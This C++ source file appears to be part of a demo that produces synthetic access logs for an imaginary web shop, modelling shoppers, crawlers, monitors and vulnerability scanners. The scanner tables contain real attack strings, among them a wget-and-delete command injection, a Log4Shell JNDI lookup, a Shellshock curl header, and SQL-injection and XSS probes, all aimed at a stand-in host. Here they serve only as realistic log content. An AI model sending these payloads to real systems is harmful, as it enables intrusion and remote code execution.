#include "demo/session.h"

#include <fmt/format.h>

#include <algorithm>
#include <array>
#include <string_view>
#include <utility>

#include "demo/broken.h"
#include "demo/site.h"

namespace tarn::demo {
namespace {

constexpr uint32_t kPopulation = 20'000;  // visitors who come again; the first 8,000 are customers
constexpr uint32_t kNewVisitors = 0x100000;
constexpr std::string_view kShop = "https://www.shop.example";

constexpr std::array<std::string_view, 12> kBrowsers = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/19.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/19.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 16; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/142.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:144.0) Gecko/20100101 Firefox/144.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/141.0.0.0 Safari/537.36 Edg/141.0.0.0",
    "Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 15; SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) "
    "SamsungBrowser/29.0 Chrome/136.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/531.0]",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 "
    "Safari/537.36",
    "Opera/9.80 (Windows NT 6.1; U; \"de\") Presto/2.12 Version/12.18"};
constexpr std::array<std::string_view, 4> kCrawlers = {
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2)"};
constexpr std::array<std::string_view, 16> kScannerPaths = {
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/admin.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/boaform/admin/formLogin?username=admin&psd=admin",
    "/cgi-bin/luci/;stok=/locale?form=country",
    "/shell?cd+/tmp;rm+-rf+*;wget+198.51.100.7/jaws",
    "/actuator/env",
    "/solr/admin/info/system?wt=json",
    "/xmlrpc.php?rsd",
    "/owa/auth/logon.aspx",
    "/?id=1%27%20OR%20%271%27=%271",
    "/search.php?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/backup.sql.gz"};
constexpr std::array<std::string_view, 4> kScanners = {
    "Mozilla/5.0 zgrab/0.x", "python-requests/2.32.3", "${jndi:ldap://198.51.100.7:1389/a}",
    "() { :; }; /bin/bash -c \"curl 198.51.100.7\""};
constexpr std::array<std::string_view, 14> kSearchWords = {
    "rain+jacket", "tent+2+person",  "boots+women",  "waterproof",
    "bike+lamp",   "umbrella+small", "regenjakke",   "gummist%C3%B8vler",
    "wool+base",   "stove+gas",      "backpack+40l", "zelt",
    "gift",        "sovepose"};

// Builds the hits of one session: who, with what, and when the next click comes.
class Draft {
 public:
  Draft(const SessionOptions& options, Rng& rng, Timestamp start)
      : options_(options), rng_(rng), now_(start) {}

  std::string address;
  std::string agent;
  std::string cookie;
  std::string referer;
  std::vector<Hit> hits;

  void Wait(double seconds) { now_.micros += static_cast<int64_t>(seconds * 1e6) + 1; }
  void Think(double median_seconds) {
    Wait(std::min(rng_.LogNormal(median_seconds, 0.8), 600.0) * options_.think_scale);
  }
  Hit& Add(Role role, std::string target, int status, uint32_t bytes) {
    Hit& hit = hits.emplace_back();
    hit.time = now_;
    hit.server = static_cast<uint8_t>(static_cast<int>(role) % options_.servers);
    hit.status = static_cast<uint16_t>(status);
    hit.body_bytes = bytes;
    hit.micros = static_cast<int64_t>(rng_.LogNormal(900 + bytes / 40.0, 0.7)) + 40;
    hit.address = address;
    hit.over_ipv6 = address.find(':') != std::string::npos;
    hit.target = std::move(target);
    hit.referer = referer;
    hit.agent = agent;
    hit.cookie = cookie;
    return hit;
  }
  // A page and what the browser loads with it; the page becomes the next referer.
  Hit& Page(Role role, const std::string& target, std::string_view document, int status = 200) {
    Hit& hit = Add(role, target, status, DocumentBytes(document));
    referer = fmt::format("{}{}", kShop, target);
    return hit;
  }
  void Static(const std::string& target, std::string_view document) {
    const bool cached = rng_.Chance(seen_assets_ ? 0.5 : 0.15);
    Add(Role::kStatic, target, cached ? 304 : 200, cached ? 0 : DocumentBytes(document));
  }
  void Assets() {
    if (seen_assets_ && rng_.Chance(0.85)) return;  // from the browser's cache
    Wait(0.05 + 0.1 * rng_.Unit());
    Static("/assets/app.css?v=41", "assets/app.css");
    Static("/assets/app.js?v=41", "assets/app.js");
    Static("/assets/logo.svg", "assets/logo.svg");
    if (!seen_assets_ && rng_.Chance(0.3)) Static("/favicon.ico", "favicon.ico");
    seen_assets_ = true;
  }
  void Image(const Product& product, std::string_view size) {
    Wait(0.01 + 0.03 * rng_.Unit());
    Static(fmt::format("/img/{}-{}.jpg", product.sku, size), fmt::format("img/{}.jpg", size));
  }

 private:
  const SessionOptions& options_;
  Rng& rng_;
  Timestamp now_;
  bool seen_assets_ = false;
};

std::string ProductDocument(const Product& product) {
  return fmt::format("page/product{}.html", product.number % 10);
}

// A person: lands, looks around, perhaps buys.
class Person {
 public:
  Person(const SessionOptions& options, const std::vector<Product>& products, Rng& rng,
         uint64_t number)
      : options_(options), products_(products), rng_(rng), number_(number) {}

  void Play(Draft& draft) {
    Arrive(draft);
    const int steps = 1 + static_cast<int>(std::min(rng_.Exponential(4.5), 30.0));
    for (int i = 0; i < steps; ++i) {
      draft.Think(9);
      Step(draft);
    }
    if (in_cart_ > 0 && rng_.Chance(std::min(0.9, 0.4 * conversion_))) {
      Buy(draft);
    } else if (customer_ > 0 && rng_.Chance(0.08)) {
      Return(draft);
    }
  }

 private:
  void Arrive(Draft& draft) {
    const bool again = rng_.Chance(0.65);
    const auto visitor = static_cast<uint32_t>(again ? rng_.Below(kPopulation)
                                                     : kNewVisitors + (rng_.Next() & 0x7fffff));
    uint32_t city = static_cast<uint32_t>(Mix(options_.seed, 0xc17, visitor) % CityCount());
    if (visitor < kCustomerCount) {
      customer_ = visitor + 1;
      const Customer customer = CustomerAt(options_.seed, customer_);
      city = customer.city;
      login_ = customer.login;
    }
    pages_ = Mix(options_.seed, 0x5e4, visitor) % 5 < 3 ? Role::kPagesA : Role::kPagesB;
    draft.address = AddressOf(options_.seed, visitor, city);
    draft.agent = kBrowsers[Mix(options_.seed, 0xa9e, visitor) % kBrowsers.size()];
    const Landing landing = DrawLanding(rng_);
    conversion_ = landing.conversion;
    draft.referer = landing.referrer;
    const std::string cookie = fmt::format("v{:06x}.{:x}.{:x}", visitor, options_.epoch, number_);
    if (again) draft.cookie = cookie;  // a new visitor gets it with the first answer
    const std::string query = landing.query.empty() ? "" : "?" + landing.query;
    if (rng_.Chance(0.45)) {
      draft.Page(pages_, "/" + query, "page/home.html");
    } else {
      product_ = rng_.Skewed(products_.size());
      LookAt(draft, query);
    }
    draft.cookie = cookie;
    draft.Assets();
  }

  void Step(Draft& draft) {
    constexpr std::array<double, 7> kWeights = {2.2, 2.6, 5.0, 1.5, 0.4, 0.35, 0.3};
    switch (rng_.Weighted(kWeights)) {
      case 0:
        Search(draft);
        break;
      case 1:
        Browse(draft);
        break;
      case 2:
        product_ = rng_.Skewed(products_.size());
        LookAt(draft, "");
        break;
      case 3:
        AddToCart(draft);
        break;
      case 4:
        SignIn(draft);
        break;
      case 5:
        draft.Page(pages_, "/shop/" + std::string(CategoryAt(0).id), "", 301).body_bytes = 247;
        break;
      default:
        draft.Page(pages_, fmt::format("/guide/{}.html", rng_.Below(90)), "page/404.html", 404);
    }
    draft.Assets();
  }

  void Search(Draft& draft) {
    const std::string_view word = kSearchWords[rng_.Below(kSearchWords.size())];
    draft.Page(pages_, fmt::format("/search?q={}", word), "page/search.html");
    for (uint64_t i = rng_.Below(4); i > 0; --i) {
      draft.Image(products_[rng_.Skewed(products_.size())], "s");
    }
  }

  void Browse(Draft& draft) {
    const auto category = static_cast<uint32_t>(rng_.Skewed(CategoryCount()));
    const uint64_t page = 1 + rng_.Skewed(4);
    const std::string more = page > 1 ? fmt::format("?page={}", page) : "";
    draft.Page(pages_, fmt::format("/c/{}{}", CategoryAt(category).id, more), "page/category.html");
    product_ = category + CategoryCount() * rng_.Skewed(kProductCount / CategoryCount());
    for (uint64_t i = 1 + rng_.Below(3); i > 0; --i) draft.Image(products_[product_], "s");
  }

  void LookAt(Draft& draft, const std::string& query) {
    const Product& product = products_[product_];
    const std::string path = fmt::format("/p/{}/{}{}", product.sku, product.slug, query);
    if (product.retired) {
      draft.Page(pages_, path, "page/410.html", 410);
      return;
    }
    draft.Page(pages_, path, ProductDocument(product));
    draft.Image(product, "m");
    if (rng_.Chance(0.3)) draft.Image(product, "l");
    draft.Add(Role::kSecure, fmt::format("/api/stock/{}", product.sku), 200,
              DocumentBytes("api/stock.json"));
    if (rng_.Chance(0.02)) {
      draft.Add(Role::kStatic, "/assets/tour.mp4", 206, 65536);
    }
  }

  void Post(Draft& draft, const std::string& target, int status) {
    Hit& hit = draft.Add(Role::kSecure, target, status, status == 302 ? 210 : 1203);
    hit.method = "POST";
  }

  void AddToCart(Draft& draft) {
    const Product& product = products_[product_];
    if (product.retired) return;
    Post(draft, fmt::format("/cart/add?sku={}&qty={}", product.sku, 1 + rng_.Skewed(3)), 302);
    draft.Wait(0.1);
    draft.Page(Role::kSecure, "/cart", "page/cart.html");
    ++in_cart_;
  }

  void SignIn(Draft& draft) {
    if (customer_ == 0 || signed_in_) return;
    draft.Page(Role::kSecure, "/account", "", 401).body_bytes = 421;
    draft.Think(6);
    if (rng_.Chance(0.08)) {  // a wrong password
      Secure(draft, "/account", "", 401);
      draft.hits.back().body_bytes = 421;
      draft.Think(5);
    }
    Secure(draft, "/account", "page/account.html", 200);
    signed_in_ = true;
  }

  void Secure(Draft& draft, const std::string& target, std::string_view document, int status) {
    draft.Page(Role::kSecure, target, document, status);
    draft.hits.back().user = login_;
  }

  void Buy(Draft& draft) {
    draft.Think(8);
    SignIn(draft);
    const std::string step = signed_in_ ? "/checkout" : "/guest/checkout";
    Visit(draft, step, "page/checkout.html");
    draft.Think(25);
    const bool fails = rng_.Chance(0.03);
    Post(draft, step + "/pay", fails ? 500 : 302);
    if (fails) return;
    draft.Wait(0.2);
    Visit(draft, fmt::format("{}/done?order=O{:x}-{:x}", step, options_.epoch, number_),
          "page/done.html");
  }

  void Visit(Draft& draft, const std::string& target, std::string_view document) {
    if (signed_in_) {
      Secure(draft, target, document, 200);
    } else {
      draft.Page(Role::kSecure, target, document);
    }
  }

  void Return(Draft& draft) {
    SignIn(draft);
    draft.Think(8);
    Secure(draft, "/account/orders", "page/orders.html", 200);
    draft.Think(15);
    Secure(draft, "/account/returns", "page/returns.html", 200);
    Post(draft, fmt::format("/account/returns/new?sku={}", products_[product_].sku), 302);
  }

  const SessionOptions& options_;
  const std::vector<Product>& products_;
  Rng& rng_;
  const uint64_t number_;
  Role pages_ = Role::kPagesA;
  uint32_t customer_ = 0;  // 0: none
  std::string login_;
  bool signed_in_ = false;
  size_t product_ = 0;
  int in_cart_ = 0;
  double conversion_ = 1.0;
};

void PlayCrawler(Draft& draft, Rng& rng, const std::vector<Product>& products) {
  const size_t which = rng.Below(kCrawlers.size());
  draft.agent = kCrawlers[which];
  draft.address = rng.Chance(0.3) ? fmt::format("2001:db8:b07:{:x}::{:x}", which, rng.Below(64) + 1)
                                  : fmt::format("192.0.2.{}", which * 50 + rng.Below(50));
  const Role role = rng.Chance(0.5) ? Role::kPagesA : Role::kPagesB;
  draft.Add(role, "/robots.txt", 200, DocumentBytes("robots.txt"));
  for (int64_t i = rng.Between(5, 45); i > 0; --i) {
    draft.Think(1.5);
    const Product& product = products[rng.Below(products.size())];
    if (rng.Chance(0.1)) {
      draft.Add(role, "/sitemap.xml", 200, DocumentBytes("sitemap.xml"));
      continue;
    }
    draft.Add(role, fmt::format("/p/{}/{}", product.sku, product.slug), product.retired ? 410 : 200,
              DocumentBytes(product.retired ? "page/410.html" : ProductDocument(product)));
  }
}

void PlayScanner(Draft& draft, Rng& rng, int servers) {
  draft.agent = kScanners[rng.Below(kScanners.size())];
  draft.address = fmt::format("198.51.100.{}", rng.Below(254) + 1);
  const auto role = static_cast<Role>(rng.Below(static_cast<uint64_t>(servers)));
  for (int64_t i = rng.Between(8, 30); i > 0; --i) {
    draft.Wait(0.05 + 0.3 * rng.Unit());
    const std::string_view path = kScannerPaths[rng.Below(kScannerPaths.size())];
    const bool home = path.starts_with("/?");
    draft.Add(role, std::string(path), home ? 200 : 404,
              DocumentBytes(home ? "page/home.html" : "page/404.html"));
  }
}

void PlayMonitor(Draft& draft, Rng& rng) {
  draft.agent = "uptime-probe/2.4";
  draft.address = rng.Chance(0.5) ? "2001:db8:4a11::1" : "203.0.113.10";
  for (int role = 0; role < kServerCount; ++role) {
    draft.Wait(0.02);
    draft.Add(static_cast<Role>(role), "/", 200, 0).method = "HEAD";
  }
}

void PlayBroken(Draft& draft, Rng& rng) {
  draft.address = rng.Chance(0.3) ? "::1" : "127.0.0.1";  // they send no X-Forwarded-For
  const auto role = static_cast<Role>(rng.Below(kServerCount));
  for (int64_t i = rng.Between(1, 3); i > 0; --i) {
    draft.Wait(0.1 + 2 * rng.Unit());
    auto which = static_cast<uint32_t>(rng.Below(BrokenClientCount()));
    // Each of the slow ones waits for a time-out, so they are rare.
    if (BrokenClientAt(which).slow && !rng.Chance(0.2)) which = 0;
    const BrokenClient& client = BrokenClientAt(which);
    Hit& hit = draft.Add(role, "", client.status, client.status == 200 ? 18452 : 266);
    hit.kind = HitKind::kBroken;
    hit.broken = static_cast<uint8_t>(which);
  }
}

void PlayStray(Draft& draft, Rng& rng) {
  Hit& hit = draft.Add(static_cast<Role>(rng.Below(kServerCount)), "", 0, 0);
  hit.kind = HitKind::kStrayText;
  hit.text = StrayText(rng);
}

}  // namespace

SessionMaker::SessionMaker(const SessionOptions& options)
    : options_(options), products_(MakeProducts(options.seed)) {
  constexpr uint64_t kSamples = 2'000;
  uint64_t hits = 0;
  for (uint64_t i = 0; i < kSamples; ++i) hits += Make(i, Timestamp{}).size();
  mean_hits_ = static_cast<double>(hits) / kSamples;
}

std::vector<Hit> SessionMaker::Make(uint64_t number, Timestamp start) const {
  // The stray lines' share makes about one line in a thousand malformed.
  constexpr std::array<double, 6> kMix = {0.78, 0.05, 0.03, 0.09, 0.03, 0.02};
  Rng rng(Mix(options_.seed, options_.epoch + 0x5e55'0000ULL, number));
  Draft draft(options_, rng, start);
  switch (rng.Weighted(kMix)) {
    case 0:
      Person(options_, products_, rng, number).Play(draft);
      break;
    case 1:
      PlayCrawler(draft, rng, products_);
      break;
    case 2:
      PlayScanner(draft, rng, options_.servers);
      break;
    case 3:
      PlayMonitor(draft, rng);
      break;
    case 4:
      PlayBroken(draft, rng);
      break;
    default:
      PlayStray(draft, rng);
  }
  return std::move(draft.hits);
}

}  // namespace tarn::demo
